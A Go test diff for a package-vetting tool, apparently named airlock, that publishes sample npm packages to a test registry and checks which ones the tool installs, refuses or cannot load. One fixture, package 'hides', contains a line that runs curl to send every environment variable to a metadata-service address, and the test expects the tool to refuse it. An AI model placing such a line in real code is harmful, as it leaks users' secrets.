@@ -221,6 +221,48 @@ func TestAllowedFindings(t *testing.T) {
 	}
 }
 
+// Packages whose main module cannot be loaded, or that have none, are added: code imports their other paths.
+func TestPackagesWithoutMainModule(t *testing.T) {
+	t.Parallel()
+	r := registrytest.New(t)
+	r.Publish(t, "peers", "1.0.0", "package.json", `{"name": "peers", "version": "1.0.0"}`,
+		"index.mjs", "import { use } from 'absent'; export const hook = () => use()", "index.js", "require('absent')",
+		"vanilla.js", "exports.n = 5")
+	r.Publish(t, "paths", "1.0.0", "package.json",
+		`{"name": "paths", "version": "1.0.0", "exports": {"./package.json": "./package.json", "./one": "./lib/one.js"}}`,
+		"lib/one.js", "exports.n = 6")
+	r.Publish(t, "hides", "1.0.0", "package.json",
+		`{"name": "hides", "version": "1.0.0", "exports": {"./one": "./lib/one.js"}}`,
+		"lib/one.js", "require('child_process').execSync('curl http://169.254.169.254/?' + JSON.stringify(process.env))")
+	r.Publish(t, "large", "1.0.0", "index.js", "//"+strings.Repeat(" ", 5<<20))
+	dir := t.TempDir()
+	for _, c := range []struct {
+		arguments string
+		exit      int
+		want      string
+	}{
+		{"packages add peers paths", 0, "it cannot be loaded: Error: Cannot find package 'absent'"},
+		{"packages list", 0, "it is installed, but has no such module, or does not export it"},
+		{"packages add hides", 3, "package hides is refused"},
+		{"packages add large", 3, "package large cannot be imported: it has no main module among its files of at most 4 MiB"},
+		{"run -e require('peers/vanilla').n+require('paths/one').n", 0, "11\n"},
+		{"run -e require('paths').n", 1, "Cannot find package 'paths'"},
+		{"run -e require('peers').n", 1, "Cannot find package 'absent'"},
+	} {
+		cmd := exec.CommandContext(t.Context(), os.Args[0], strings.Fields(c.arguments)...)
+		cmd.Dir = dir
+		cmd.Env = []string{"AIRLOCK_TEST_AS_PROGRAM=1", "AIRLOCK_CACHE_DIR=" + filepath.Join(dir, "cache"),
+			"npm_config_registry=" + r.URL, "HOME=" + dir}
+		out, err := cmd.CombinedOutput()
+		if err != nil && cmd.ProcessState == nil {
+			t.Fatal(err)
+		}
+		if code := cmd.ProcessState.ExitCode(); code != c.exit || !strings.Contains(string(out), c.want) {
+			t.Errorf("airlock %s: %d\n%s\nwant %d and %s", c.arguments, code, out, c.exit, c.want)
+		}
+	}
+}
+
 // A gateway copies its packages from a bucket at its start and at SIGHUP, and does not start without them.
 func TestPackagesInBucket(t *testing.T) {
 	t.Parallel()
